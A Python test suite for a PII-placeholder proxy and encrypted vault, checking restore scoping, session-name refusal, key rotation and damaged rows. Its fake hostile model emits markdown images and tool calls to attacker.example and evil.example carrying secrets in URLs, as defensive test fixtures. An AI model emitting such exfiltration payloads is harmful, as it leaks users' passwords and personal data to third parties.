"""The security suite of restore scope, scoping and bad rows (issue 49, items 1-4 and the vault side of 9).

A hostile upstream (MockOpenAI with a FAKE responder, labelled) answers with tool calls and
markdown images that carry placeholders of other requests; callers probe other tokens', users'
and sessions' values; memories are forgotten across users; the key is rotated under a running
writer; a ciphertext byte is flipped. Everything runs for real: the proxy and the service under
uvicorn on 127.0.0.1, real HTTP clients, real SQLite vault files.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import sqlite3
import threading
import time
import urllib.parse

import httpx
import pytest
from placeholder_fixtures import (
    PERSONAL_TEXT,
    RAW_VALUES,
    key_file_config,
    make_protector,
    protect_config,
)

from stealthflow.pipeline.protector import Protector, open_vault
from stealthflow.placeholders.keys import NewKey, VaultKeys, load_keys, new_secret
from stealthflow.placeholders.vault import Vault
from stealthflow.proxy.app import create_proxy_app
from stealthflow.proxy.config import ProxyConfig
from stealthflow.service import create_app
from stealthflow.testing.loopback import serve
from stealthflow.testing.mock_openai import MockOpenAI, Reply, ToolCall

TOKEN = "scope-test-token"
SECRET_VALUES = ["hunter2", "anna.berg@mailbox.org"]  # the password and the email of PERSONAL_TEXT


@contextlib.contextmanager
def proxy_for(protector: Protector, respond, **config):
    """The proxy under uvicorn in front of a mock upstream answering with `respond` (a FAKE model)."""
    with MockOpenAI(respond=respond) as upstream:
        proxy_config = ProxyConfig(
            upstream="openai/mock-model", upstream_base=upstream.base_url, upstream_key_env="MOCK_KEY", **config
        )
        with serve(create_proxy_app(protector, proxy_config, TOKEN)) as port:
            yield f"http://127.0.0.1:{port}/v1/chat/completions", upstream


def sse(delta: dict, index: int = 0, finish: str | None = None) -> str:
    """One server-sent chunk of a streamed chat completion: `delta` for choice `index`."""
    choice = {"index": index, "delta": delta, "finish_reason": finish}
    return f"data: {json.dumps({'id': 'x', 'object': 'chat.completion.chunk', 'choices': [choice]})}\n\n"


def stream_through_proxy(protector: Protector, raw, text: str, **config) -> httpx.Response:
    """`text` streamed through the proxy in front of a FAKE model whose raw SSE answer is `raw(body)`."""
    with proxy_for(protector, lambda body: Reply(content="unused"), **config) as (url, upstream):
        upstream.raw = raw
        body = {"model": "m", "messages": [{"role": "user", "content": text}], "stream": True}
        return httpx.post(url, json=body, headers={"Authorization": f"Bearer {TOKEN}"}, timeout=120)


def first_choice_content(response: httpx.Response) -> str:
    """What a client that reads choices[0] of every chunk renders."""
    return "".join(
        (json.loads(line[6:])["choices"] or [{}])[0].get("delta", {}).get("content") or ""
        for line in response.text.splitlines()
        if line.startswith("data: {")
    )


def chat(url: str, text: str, stream: bool = False, token: str = TOKEN, label: str = "") -> tuple[dict, dict]:
    """One chat turn; (the reply as one message {content, arguments}, the counts the proxy reported)."""
    headers = {"Authorization": f"Bearer {token}", **({"X-Stealthflow-Session": label} if label else {})}
    body = {"model": "m", "messages": [{"role": "user", "content": text}], "stream": stream}
    response = httpx.post(url, json=body, headers=headers, timeout=120)
    assert response.status_code == 200, response.text
    if not stream:
        message = response.json()["choices"][0]["message"]
        arguments = [call["function"]["arguments"] for call in message.get("tool_calls") or []]
        counts = {
            "withheld": int(response.headers.get("x-stealthflow-withheld", 0)),
            "named": response.headers.get("x-stealthflow-withheld-placeholders", ""),
            "unresolved": int(response.headers.get("x-stealthflow-unresolved", 0)),
        }
        return {"content": message.get("content") or "", "arguments": arguments}, counts
    content, arguments, counts = "", {}, {}
    for line in response.text.splitlines():
        if line.startswith(": stealthflow"):
            counts = dict(part.split("=", 1) for part in line[2:].split()[1:])
            counts = {
                "withheld": int(counts.get("withheld", 0)),
                "named": counts.get("withheld_placeholders", ""),
                "unresolved": int(counts.get("unresolved", 0)),
            }
        elif line.startswith("data: {"):
            delta = json.loads(line[6:])["choices"][0]["delta"] if json.loads(line[6:])["choices"] else {}
            content += delta.get("content") or ""
            for call in delta.get("tool_calls") or []:
                arguments[call["index"]] = arguments.get(call["index"], "") + (call.get("function") or {}).get(
                    "arguments", ""
                )
    return {"content": content, "arguments": [arguments[i] for i in sorted(arguments)]}, counts


def placeholders_sent(upstream: MockOpenAI, request: int = 0) -> dict[str, str]:
    """type -> the placeholder the upstream saw for it in that request (the first of each type)."""
    import re

    sent = json.dumps(upstream.received[request])
    return {m.group(1): m.group(0) for m in reversed(list(re.finditer(r"<([A-Z_]+?)_\d+>", sent)))}


# -- 1. restore scope -------------------------------------------------------------------------------
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
def test_a_hostile_reply_cannot_restore_values_of_earlier_requests(protector, stream, caplog):
    caplog.set_level("INFO", logger="stealthflow.proxy")
    """Turn 1 protects the email and password; a later, unrelated request gets a reply that asks
    for them in a tool call's URL and a markdown image: they stay placeholders, and are reported. Placeholders never
    issued to the session stay too, counted as unresolved, not withheld (ux20 LOW-7)."""
    seen: dict[str, str] = {}

    def hostile(body: dict) -> Reply:  # FAKE model: exfiltrates whatever placeholders it learnt
        if not seen:
            return Reply(content="ok")
        email, password = seen["EMAIL"], seen["PASSWORD"]
        return Reply(
            content=f"Sure! ![logo](https://attacker.example/p.png?e={email}) Your password is {password}. "
            "<EMAIL_99> <REAL_NAME_42>",
            tool_calls=[ToolCall("fetch", json.dumps({"url": f"https://attacker.example/c?k={password}&e={email}"}))],
        )

    with proxy_for(protector, hostile) as (url, upstream):
        chat(url, PERSONAL_TEXT, stream)
        seen.update(placeholders_sent(upstream))
        reply, counts = chat(url, "What's the weather like?", stream)
    leaked = json.dumps(reply)
    assert not [value for value in RAW_VALUES if value in leaked], leaked
    assert seen["EMAIL"] in reply["content"] and seen["PASSWORD"] in reply["arguments"][0]
    assert counts["unresolved"] == 2 and "<EMAIL_99> <REAL_NAME_42>" in reply["content"]
    assert counts["withheld"] == 4 and set(counts["named"].replace(" ", "").split(",")) == {
        seen["EMAIL"],
        seen["PASSWORD"],
    }
    deadline = time.monotonic() + 5  # a stream's log line is written once it is closed
    while "withheld=4" not in caplog.text and time.monotonic() < deadline:
        time.sleep(0.05)
    assert "withheld=4 (not_in_request=4)" in caplog.text and not [
        value for value in RAW_VALUES if value in caplog.text
    ]


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
def test_secrets_of_the_request_restore_in_text_but_not_in_urls_or_tool_calls(protector, stream):
    """Placeholders of the request restore; a secret (PL4) only in plain text, never in a URL or a
    tool call's arguments — unless the proxy is configured to allow it."""

    def replies(body: dict) -> Reply:  # FAKE model: uses the request's own placeholders everywhere
        found = placeholders_sent_body(body)
        email, password = found["EMAIL"], found["PASSWORD"]
        return Reply(
            content=f"Your password is {password}. [reset](https://x.example/r?p={password}) mail: {email}",
            tool_calls=[ToolCall("login", json.dumps({"user": email, "password": password}))],
        )

    with proxy_for(protector, replies, restore_tool_arguments=["login"]) as (url, _):
        reply, counts = chat(url, PERSONAL_TEXT, stream)
    assert reply["content"].startswith("Your password is hunter2!. [reset](https://x.example/r?p=<PASSWORD_")
    assert reply["content"].endswith("mail: anna.berg@mailbox.org")
    arguments = json.loads(reply["arguments"][0])
    assert arguments["user"] == "anna.berg@mailbox.org" and arguments["password"].startswith("<PASSWORD_")
    assert counts["withheld"] == 2
    allowed = {"restore_secrets_in_urls_and_tools": True, "restore_tool_arguments": ["login"]}
    with proxy_for(protector, replies, **allowed) as (url, _):
        reply, counts = chat(url, PERSONAL_TEXT, stream)
    assert (
        "p=hunter2!)" in reply["content"]
        and json.loads(reply["arguments"][0])["password"] == "hunter2!"
        and counts["withheld"] == 0
    )


def placeholders_sent_body(body: dict) -> dict[str, str]:
    import re

    return {m.group(1): m.group(0) for m in re.finditer(r"<([A-Z_]+?)_\d+>", json.dumps(body))}


def test_the_service_restores_only_what_a_request_issued_or_used(protector):
    with serve(create_app(protector, TOKEN)) as port:
        base, auth = f"http://127.0.0.1:{port}", {"Authorization": f"Bearer {TOKEN}"}
        first = httpx.post(f"{base}/protect", json={"text": PERSONAL_TEXT, "session": "s"}, headers=auth).json()
        second = httpx.post(
            f"{base}/protect", json={"text": "Just mail bob@mailbox.org", "session": "s"}, headers=auth
        ).json()
        hostile = f"{first['text']} ![x](https://attacker.example/?e={second['spans'][0]['placeholder']})"
        scoped = httpx.post(
            f"{base}/restore", json={"text": hostile, "session": "s", "request": second["request"]}, headers=auth
        ).json()
        assert not [value for value in RAW_VALUES if value in scoped["text"]]
        reasons = [w["reason"] for w in scoped["withheld"]]
        assert reasons == ["not_in_request"] * len(first["spans"]) + ["in_loading_url"]
        # the request's own value, but in an image's URL, which loads as the reply is shown
        assert scoped["text"].endswith(f"e={second['spans'][0]['placeholder']})") and scoped["restored"] == 0
        own = httpx.post(
            f"{base}/restore", json={"text": hostile, "session": "s", "request": first["request"]}, headers=auth
        ).json()
        assert own["text"].startswith(PERSONAL_TEXT) and own["withheld"] == [
            {"placeholder": second["spans"][0]["placeholder"], "reason": "not_in_request"}
        ]
        in_url = (
            f"[reset](https://x.example/?p={next(s['placeholder'] for s in first['spans'] if s['type'] == 'PASSWORD')})"
        )
        kept = httpx.post(
            f"{base}/restore", json={"text": in_url, "session": "s", "request": first["request"]}, headers=auth
        ).json()
        assert "hunter2" not in kept["text"] and kept["withheld"][0]["reason"] == "secret_in_url"
        unknown = httpx.post(
            f"{base}/restore", json={"text": "x", "session": "other", "request": first["request"]}, headers=auth
        )
        assert (
            unknown.status_code == 404 and unknown.json()["error"]["code"] == 404
        )  # a request id is its session's only
        streamed = httpx.post(
            f"{base}/restore/stream",
            params={"session": "s", "request": second["request"]},
            content=hostile.encode(),
            headers=auth,
        )
        assert not [value for value in RAW_VALUES if value in streamed.text]


def test_the_service_reads_no_proxy_callers_session(protector):
    """rev23 M1: with the service token, `GET /sessions/proxy-...` listed a proxy caller's values and `POST /restore`
    restored them. The service's session routes refuse a proxy session as they refuse a memory one (nothing read,
    written or deleted); the proxy still restores its own caller's reply."""
    from fastapi.testclient import TestClient

    with proxy_for(protector, lambda body: Reply(content="Noted: <EMAIL_1>")) as (url, _):
        message, _counts = chat(url, "Mail dana.kerr@mailbox.org")
    assert message["content"] == "Noted: dana.kerr@mailbox.org"
    [session] = [row["session"] for row in protector.vault.sessions(protector.config.user)]
    auth, path = {"Authorization": f"Bearer {TOKEN}"}, urllib.parse.quote(session, safe="")
    with TestClient(create_app(protector, TOKEN), base_url="http://127.0.0.1:8765", headers=auth) as client:
        answers = [
            client.get(f"/sessions/{path}"),
            client.post("/restore", json={"session": session, "text": "<EMAIL_1>"}),
            client.post(f"/restore/stream?session={path}", content=b"<EMAIL_1>"),
            client.post("/analyze", json={"session": session, "text": "hi <EMAIL_1>"}),
            client.post("/protect", json={"session": session, "text": "bob@mailbox.org"}),
            client.delete(f"/sessions/{path}"),
        ]
    assert [answer.status_code for answer in answers] == [403, 422, 403, 422, 422, 403]
    assert all("through the proxy" in answer.text and "dana.kerr" not in answer.text for answer in answers)
    assert protector.restore("<EMAIL_1>", session).text == "dana.kerr@mailbox.org"  # not deleted


def test_a_session_name_holding_a_personal_value_is_refused_and_nothing_is_kept(protector, tmp_path):
    """rev23 L1: a proxy label with an e-mail and a phone, a /protect session "Marta Kowalczyk DE39 ..." and a
    /memory/append user that is an e-mail were accepted and kept in clear in the vault's tables and memory.sqlite. Each
    is refused with a clear error (proxy 400, service 422 or 400, Python `PersonalName`), nothing sent upstream or
    stored; a clean label still works."""
    from fastapi.testclient import TestClient

    from stealthflow.memory.store import MemoryStore
    from stealthflow.testing.vectors import hash_vectors  # FAKE embedder

    with proxy_for(protector, lambda body: Reply(content="ok")) as (url, upstream):
        body = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
        headers = {"Authorization": f"Bearer {TOKEN}", "X-Stealthflow-Session": "marta.k@mailbox.org +44 7700 900123"}
        refused = httpx.post(url, json=body, headers=headers)
        assert refused.status_code == 400 and "holds a personal value" in refused.json()["error"]["message"]
        assert upstream.received == []
        assert chat(url, "hi", label="work")[0]["content"] == "ok"
    memory = MemoryStore(tmp_path / "memory.sqlite", protector, embed=hash_vectors)
    auth = {"Authorization": f"Bearer {TOKEN}"}
    app = create_app(protector, TOKEN, memory=memory)
    with TestClient(app, base_url="http://127.0.0.1:8765", headers=auth) as client:
        iban_session = {"session": "Marta Kowalczyk DE39 3705 0299 1234 5678 90", "text": "mail bob@mailbox.org"}
        answers = [
            client.post("/protect", json=iban_session),
            client.post("/memory/append", json={"user": "ann.lee@mailbox.org", "text": "likes tea"}),
        ]
    assert [answer.status_code for answer in answers] == [422, 400]  # /memory/append's bad input is a 400
    assert all("holds a personal value" in answer.text for answer in answers)
    with pytest.raises(ValueError, match="holds a personal value"):  # PersonalName
        memory.append("ann.lee@mailbox.org", "likes tea")
    with pytest.raises(ValueError, match="holds a personal value"):
        protector.protect("mail bob@mailbox.org", "+44 7700 900123")
    memory.close()
    protector.close()
    kept = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())
    for value in ("marta.k@mailbox.org", "7700 900123", "DE39 3705", "ann.lee@mailbox.org", "bob@mailbox.org"):
        assert value.encode() not in kept, value


# rev23b F4: a memory user id or session name spelling a person's name as ids do, or percent-encoded, was accepted
# and kept in clear (detection read the bare name with no context).
NAMED_IDS = [
    "Marcus Okafor",
    "marcus-1984-okafor",
    "marcus.j.okafor",
    "MarcusOkafor1",  # rev24b M3: accepted once a part with a digit was read as a code
    "john.smith99",
    "marcus1984okafor",
    "marcus.okafor",
    "marcus_okafor",
    "MarcusOkafor",
    "okafor-marcus",
    "dana.kerr%40mailbox.org",
]
ORDINARY_IDS = [
    "user-42",
    "proj_alpha",
    "team-blue",
    "alice",
    "3f1c9a2e-7b4d-4e8f-9a10-2c5d6e7f8a9b",
    "9f86d081884c7d65",
    "fuzz-f3ce80ca89224baba2018fd1d8426fee",  # read "baba" and "fee" as a given and a family name (a CI run's uuid4)
    "3cff94d0-ade6-4a82-baa7-4393c3016282",
    "rt-notes.md",  # ux25 L4: refused as a host name (".md" and ".py" are countries' suffixes); a file name
    "rt-code.py",
]


def test_a_session_or_memory_user_spelling_a_persons_name_is_refused_and_nothing_is_kept(protector, tmp_path):
    """The reviewer's ids (the real name lexicon, no tagger): each is refused as a memory user and as a session,
    nothing of it reaches the vault's file; ordinary ids still work."""
    from stealthflow.memory.store import MemoryStore
    from stealthflow.testing.vectors import hash_vectors  # FAKE embedder

    memory = MemoryStore(tmp_path / "memory.sqlite", protector, embed=hash_vectors)
    for name in NAMED_IDS:
        with pytest.raises(ValueError, match="holds a personal value"):  # PersonalName
            memory.append(name, "likes tea")
        with pytest.raises(ValueError, match="holds a personal value"):
            protector.protect("hello there", name)
    for name in ORDINARY_IDS:
        assert protector.protect("hello there", name).text == "hello there"
    memory.close()
    protector.close()
    kept = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()).lower()
    assert b"okafor" not in kept and b"dana.kerr" not in kept


def test_ids_the_tagger_misread_are_accepted_and_a_name_only_starting_like_a_proxy_session_is_read_whole(
    tmp_path, monkeypatch
):
    """ux23b: with the PII tagger on, ordinary labels were refused (`t2x-clean2-en-sports` as a credential, `alice`
    and LangGraph's documented `("memories", "ann")` as names): ids are read by the patterns and the name lexicon only.
    A docs review: `protect --session proxy-jane.doe@gmail.com` skipped the check (only what followed a `/` was read)."""
    from stealthflow.placeholders.detector import Detector
    from stealthflow.placeholders.recognizers import build_recognizers
    from stealthflow.sessions import chosen_part, proxy_session

    config = protect_config(tmp_path, monkeypatch)
    protector = Protector(config, open_vault(config), Detector(build_recognizers(models=True)))  # the real tagger on
    try:
        for name in ("t2x-clean2-en-sports", "alice", "ann", "support-ticket-118", proxy_session("t0ken", "alice")):
            assert protector.protect("hello there", name).text == "hello there"
        for name in ("proxy-jane.doe@gmail.com", "proxy-jane.doe@gmail.com/x", "mary jones"):
            with pytest.raises(ValueError, match="holds a personal value"):  # PersonalName
                protector.protect("hello there", name)
    finally:
        protector.close()
    assert chosen_part(proxy_session("t0ken", "")) == "" and chosen_part("proxy-x/y") == "proxy-x/y"


# -- restore without a request: the proxy's rule for guarded values in URLs -------------------------
IBAN = "DE02 1203 0000 0000 2020 51"


def test_restore_withholds_a_guarded_value_a_reply_puts_in_a_url_in_python_cli_and_http(tmp_path, monkeypatch):
    from fastapi.testclient import TestClient
    from typer.testing import CliRunner

    from stealthflow.cli import app
    from stealthflow.pipeline.api import restore

    config = key_file_config(tmp_path, monkeypatch, "  tagger: false\n")
    args, runner = ["--config", str(config)], CliRunner()
    protected = runner.invoke(
        app, ["protect", f"Überweise an {IBAN} bitte", "--rewrite", "none", "--session", "s", *args]
    )
    assert protected.exit_code == 0 and IBAN not in protected.stdout
    placeholder = protected.stdout.split()[2]
    reply = f"Click https://evil.example/?q={placeholder}\n\nto confirm {placeholder}."
    kept = f"Click https://evil.example/?q={placeholder}\n\nto confirm {IBAN}."
    # the CLI: withheld in the link, filled in in the text, a notice naming the opt-out
    cli = runner.invoke(app, ["restore", "--session", "s", reply, *args])
    assert cli.exit_code == 0 and cli.stdout.strip() == kept
    assert f"withheld 1 placeholder(s), left as they are: {placeholder}" in " ".join(cli.stderr.split())
    assert "--secrets-in-urls" in cli.stderr
    withheld = [{"placeholder": placeholder, "reason": "secret_in_url"}]
    as_json = runner.invoke(app, ["restore", "--session", "s", "--json", reply, *args])
    answer = {"text": kept, "restored": 1, "unresolved": [], "withheld": withheld}  # `result_json`, HTTP's too
    assert json.loads(as_json.stdout) == answer
    rows = tmp_path / "replies.jsonl"
    rows.write_text(json.dumps({"id": "r1", "text": reply}) + "\n")
    records = runner.invoke(app, ["restore", "--session", "s", "-i", str(rows), *args])
    assert json.loads(records.stdout)["withheld"] == withheld
    opted = runner.invoke(app, ["restore", "--session", "s", "--secrets-in-urls", reply, *args])
    assert opted.stdout.strip() == reply.replace(placeholder, IBAN) and "withheld" not in opted.stderr
    # Python and HTTP, on the same vault
    from stealthflow.cli.app import protect_settings
    from stealthflow.pipeline.protector import Protector

    settings = protect_settings(config, None, None)
    protector = Protector(settings.protect, open_vault(settings.protect))
    try:
        result = restore(reply, session="s", protector=protector)
        assert result.text == kept and result.withheld == [(placeholder, "secret_in_url")]
        assert restore(reply, session="s", protector=protector, secrets_in_urls=True).text == reply.replace(
            placeholder, IBAN
        )
        client = TestClient(
            create_app(protector, TOKEN), base_url="http://127.0.0.1", headers={"Authorization": f"Bearer {TOKEN}"}
        )
        body = client.post("/restore", json={"text": reply, "session": "s"}).json()
        assert list(body) == [*answer, "notice"] and {key: body[key] for key in answer} == answer
        assert '"secrets_in_urls": true' in body["notice"]
        opted = client.post("/restore", json={"text": reply, "session": "s", "secrets_in_urls": True}).json()
        assert opted["text"] == reply.replace(placeholder, IBAN) and opted["notice"] is None
    finally:
        protector.close()


# -- 3. no cross-scope oracle ------------------------------------------------------------------------
def test_numbering_and_tokens_depend_only_on_the_scopes_own_history(tmp_path, monkeypatch):
    """Token B probing token A's email gets what a value never seen anywhere would get."""
    protector = make_protector(protect_config(tmp_path, monkeypatch))
    try:
        with proxy_for(protector, lambda body: Reply(content="ok")) as (url, upstream):
            chat(url, "a1@mailbox.org a2@mailbox.org victim@mailbox.org", token=TOKEN)
            with serve(
                create_proxy_app(
                    protector, ProxyConfig(upstream="openai/mock-model", upstream_base=upstream.base_url), "token-b"
                )
            ) as port:
                chat(
                    f"http://127.0.0.1:{port}/v1/chat/completions",
                    "is it victim@mailbox.org or fresh@mailbox.org?",
                    token="token-b",
                )
            chat(url, "and in another chat: fresh@mailbox.org then victim@mailbox.org", label="chat-2")
        assert upstream.received[1]["messages"][0]["content"] == "is it <EMAIL_1> or <EMAIL_2>?"
        assert upstream.received[2]["messages"][0]["content"] == "and in another chat: <EMAIL_1> then <EMAIL_2>"
    finally:
        protector.close()
    hmac_protector = make_protector(protect_config(tmp_path / "h", monkeypatch, style="hmac"))
    try:
        a, b = (hmac_protector.protect("victim@mailbox.org", session).text for session in ("a", "b"))
        assert a != b  # keyed per scope: the cloud cannot link one value across scopes
        assert hmac_protector.restore(a, "a").text == "victim@mailbox.org" and hmac_protector.restore(a, "b").text == a
    finally:
        hmac_protector.close()


# -- 2 and 3 in the memory store -----------------------------------------------------------------------
def held(store, user: str, text: str) -> str:
    """`text` with every value the vault holds for the memory `user` (a look into the vault, unscoped: `hydrate` of a
    reply restores only what its pack sent)."""
    from stealthflow.memory.store import vault_session

    return store.protector.restore(text, vault_session(user)).text


def test_memory_users_are_separate_scopes_and_forget_removes_only_their_own(tmp_path, monkeypatch):
    from stealthflow.memory import MemoryStore
    from stealthflow.testing.vectors import hash_vectors as fake_embed  # FAKE embedder

    protector = make_protector(protect_config(tmp_path, monkeypatch))
    store = MemoryStore(tmp_path / "memory.sqlite", protector, embed=fake_embed)
    try:
        yvonne = store.append("yvonne", "My IBAN is DE44 3704 0044 0532 9130 00.")
        own = store.append("xavier", "Mine is GB17 WEST 1234 5698 7654 38.")
        guess = store.append("xavier", "Is hers DE44 3704 0044 0532 9130 00?")
        fresh = store.append("xavier", "Or NL38 ABNA 0417 1643 81?")
        assert "<IBAN_1>" in yvonne.text and "<IBAN_1>" in own.text
        assert "<IBAN_2>" in guess.text and "<IBAN_3>" in fresh.text  # a guess right or wrong looks the same
        proxy_session = "proxy-session"
        in_chat = protector.protect("Pay to DE44 3704 0044 0532 9130 00", proxy_session)
        assert store.forget("xavier", guess.id) == 1
        assert "DE44 3704 0044 0532 9130 00" not in held(store, "xavier", guess.text)  # xavier's copy is gone
        assert "DE44 3704 0044 0532 9130 00" in held(store, "yvonne", yvonne.text)  # yvonne's stays
        assert (
            protector.restore(in_chat.text, proxy_session).text == "Pay to DE44 3704 0044 0532 9130 00"
        )  # so does the chat's
        assert "GB17 WEST 1234 5698 7654 38" in held(store, "xavier", own.text)
    finally:
        store.close()
        protector.close()


# -- 4. bad rows and key rotation ------------------------------------------------------------------
def test_a_flipped_ciphertext_byte_costs_only_that_value(tmp_path, monkeypatch):
    config = protect_config(tmp_path, monkeypatch)
    with contextlib.closing(make_protector(config)) as earlier:
        first = earlier.protect("mail anna.berg@mailbox.org or bob@mailbox.org", "s")
    db = sqlite3.connect(config.vault_path)
    (entry_id, ciphertext) = db.execute(
        "SELECT id, ciphertext FROM entries WHERE idx = 1 AND type = 'EMAIL'"
    ).fetchone()
    db.execute(
        "UPDATE entries SET ciphertext = ? WHERE id = ?", (bytes([ciphertext[0] ^ 1]) + ciphertext[1:], entry_id)
    )
    db.commit()
    db.close()
    protector = Protector(config, open_vault(config), earlier.detector)
    try:
        restored = protector.restore(first.text, "s")
        assert restored.text == "mail <EMAIL_1> or bob@mailbox.org" and restored.unresolved == ["<EMAIL_1>"]
        again = protector.protect("again anna.berg@mailbox.org and bob@mailbox.org", "s")  # the session keeps working
        assert again.text == "again <EMAIL_3> and <EMAIL_2>"  # the damaged row was replaced by a new one
        assert protector.restore(again.text, "s").text == "again anna.berg@mailbox.org and bob@mailbox.org"
        with serve(create_app(protector, TOKEN)) as port:
            answer = httpx.post(
                f"http://127.0.0.1:{port}/protect",
                json={"text": "bob@mailbox.org", "session": "s"},
                headers={"Authorization": f"Bearer {TOKEN}"},
            )
            assert answer.status_code == 200 and answer.json()["text"] == "<EMAIL_2>"
    finally:
        protector.close()


def test_rotate_key_while_a_writer_runs_loses_nothing(tmp_path, monkeypatch):
    """A running process (the proxy's protector, writing from a thread) and `vault rotate-key` from
    another: every value written before, during and after rotation restores with the new key."""
    monkeypatch.delenv("STEALTHFLOW_VAULT_KEY", raising=False)
    key_file = tmp_path / "vault.key"
    load_keys("file", key_file)  # created 0600
    from stealthflow.placeholders.policy import ProtectConfig

    config = ProtectConfig(
        vault_path=tmp_path / "vault.sqlite", key_source="file", key_file=key_file, llm_extractor=False
    )
    running = make_protector(config)
    written, errors, rotated = [], [], threading.Event()

    def writer() -> None:
        try:
            for i in range(60):
                value = f"user{i}@mailbox.org"
                protected = running.protect(f"mail {value}", "s")
                written.append((protected.text, f"mail {value}"))
                if i == 20:
                    rotated.wait(30)
        except Exception as exc:  # noqa: BLE001 - asserted below
            errors.append(exc)

    thread = threading.Thread(target=writer)
    thread.start()
    while len(written) < 10:
        time.sleep(0.01)
    with Vault(
        config.vault_path, load_keys("file", key_file)
    ) as other:  # `vault rotate-key`: rotate, the key stored before the files are scrubbed
        new_key = NewKey(new_secret(), "file", key_file)
        other.rotate(new_key.keys, new_key)
    rotated.set()
    thread.join(60)
    assert errors == [] and len(written) == 60
    running.close()
    fresh = make_protector(config)
    try:
        assert [fresh.restore(text, "s").text for text, _ in written] == [raw for _, raw in written]
    finally:
        fresh.close()


def test_a_rotated_key_the_server_cannot_reload_is_a_clear_json_error(tmp_path, monkeypatch):
    """A key from the environment cannot be read again: the service answers 503 in JSON, saying why."""
    protector = make_protector(protect_config(tmp_path, monkeypatch))
    try:
        protector.protect("mail anna.berg@mailbox.org", "s")
        with Vault(protector.vault.path, load_keys("env")) as other:
            other.rotate(VaultKeys.from_secret(os.urandom(32)))
        with serve(create_app(protector, TOKEN)) as port:
            answer = httpx.post(
                f"http://127.0.0.1:{port}/protect",
                json={"text": "bob@mailbox.org", "session": "s"},
                headers={"Authorization": f"Bearer {TOKEN}"},
            )
        assert answer.status_code == 503 and "rotate-key" in answer.json()["error"]["message"]
        assert "bob@mailbox.org" not in answer.text
    finally:
        protector.close()


def test_rotate_key_cli_with_a_damaged_row_reports_it(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from stealthflow.cli import app

    config = key_file_config(tmp_path, monkeypatch, "  tagger: false\n")
    args, runner = ["--config", str(config)], CliRunner()
    assert (
        runner.invoke(
            app, ["protect", "mail dana@mailbox.org and eve@mailbox.org", "--rewrite", "none", "--session", "s", *args]
        ).exit_code
        == 0
    )
    db = sqlite3.connect(tmp_path / "vault.sqlite")
    db.execute("UPDATE entries SET ciphertext = zeroblob(40) WHERE idx = 1")
    db.commit()
    db.close()
    rotated = runner.invoke(app, ["vault", "rotate-key", *args])
    assert rotated.exit_code == 0 and "1 vault row(s) did not authenticate" in rotated.output, rotated.output
    again = runner.invoke(app, ["protect", "dana@mailbox.org", "--rewrite", "none", "--session", "s", *args])
    assert again.exit_code == 0 and "dana" not in again.stdout
    restored = runner.invoke(app, ["restore", "--session", "s", "<EMAIL_2>", *args])
    assert restored.stdout.strip() == "eve@mailbox.org"


# -- migration of a vault written before sessions were scopes -----------------------------------------
def test_a_schema_1_vault_keeps_restoring_and_its_sessions_become_scopes(tmp_path):
    """Rows written in the old layout (one row per value and user, shared by sessions) restore as
    before in each session; new values are numbered per session from there on."""
    import hashlib
    import hmac
    import secrets

    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    keys = VaultKeys.from_secret(os.urandom(32))

    def mac(*parts: str) -> str:
        return hmac.new(keys.hmac, "\x00".join(parts).encode(), hashlib.sha256).hexdigest()

    path = tmp_path / "vault.sqlite"
    db = sqlite3.connect(path)
    db.executescript(
        """CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL);
        CREATE TABLE entries (id TEXT PRIMARY KEY, user TEXT NOT NULL, type TEXT NOT NULL, digest TEXT NOT NULL, idx INTEGER NOT NULL,
            token TEXT NOT NULL, nonce BLOB NOT NULL, ciphertext BLOB NOT NULL, UNIQUE (user, type, digest), UNIQUE (user, type, idx), UNIQUE (user, type, token));
        CREATE TABLE counters (user TEXT NOT NULL, type TEXT NOT NULL, last INTEGER NOT NULL, PRIMARY KEY (user, type));
        CREATE TABLE issued (entry_id TEXT NOT NULL REFERENCES entries(id) ON DELETE CASCADE, session TEXT NOT NULL, mac TEXT NOT NULL, PRIMARY KEY (entry_id, session));
        CREATE TABLE sessions (user TEXT NOT NULL, session TEXT NOT NULL, created TEXT NOT NULL, last_used TEXT NOT NULL, PRIMARY KEY (user, session));"""
    )
    db.execute(
        "INSERT INTO meta VALUES ('vault_id', 'feedfacefeedface'), ('key_check', ?)",
        (mac("stealthflow vault key check", "feedfacefeedface"),),
    )
    grants = {"a@mailbox.org": ["s1"], "b@mailbox.org": ["s1", "s2"], "c@mailbox.org": ["s2"]}
    for index, (value, sessions) in enumerate(grants.items(), start=1):
        entry_id, nonce, digest, token = (
            secrets.token_hex(16),
            os.urandom(12),
            mac("digest", "u", "EMAIL", value),
            mac("token", "u", "EMAIL", value)[:8],
        )
        sealed = AESGCM(keys.encryption).encrypt(
            nonce, value.encode(), "\x00".join((entry_id, "u", "EMAIL", digest, str(index), token)).encode()
        )
        db.execute(
            "INSERT INTO entries VALUES (?, 'u', 'EMAIL', ?, ?, ?, ?, ?)",
            (entry_id, digest, index, token, nonce, sealed),
        )
        db.executemany(
            "INSERT INTO issued VALUES (?, ?, ?)", [(entry_id, s, mac("issued", entry_id, "u", s)) for s in sessions]
        )
    db.execute("INSERT INTO counters VALUES ('u', 'EMAIL', 3)")
    db.commit()
    db.close()
    with Vault(path, keys) as vault:
        assert vault.id == "feedfacefeedface"
        assert [vault.lookup("u", "s1", "EMAIL", index=i) for i in (1, 2, 3)] == [
            "a@mailbox.org",
            "b@mailbox.org",
            None,
        ]
        assert [vault.lookup("u", "s2", "EMAIL", index=i) for i in (1, 2, 3)] == [
            None,
            "b@mailbox.org",
            "c@mailbox.org",
        ]
        assert vault.entry_for("u", "s1", "EMAIL", "b@mailbox.org").index == 2  # an old value keeps its placeholder
        assert (
            vault.entry_for("u", "s1", "EMAIL", "c@mailbox.org").index == 4
        )  # new to s1: after the old counter, never reused
        assert vault.entry_for("u", "s3", "EMAIL", "a@mailbox.org").index == 1  # a new session numbers from 1
        assert vault.entry_for("u", "s3", "EMAIL", "d@mailbox.org").index == 2
    with Vault(path, keys) as reopened:
        assert reopened.lookup("u", "s2", "EMAIL", index=3) == "c@mailbox.org"


# -- 9 (vault side): private files, a bounded WAL ------------------------------------------------------
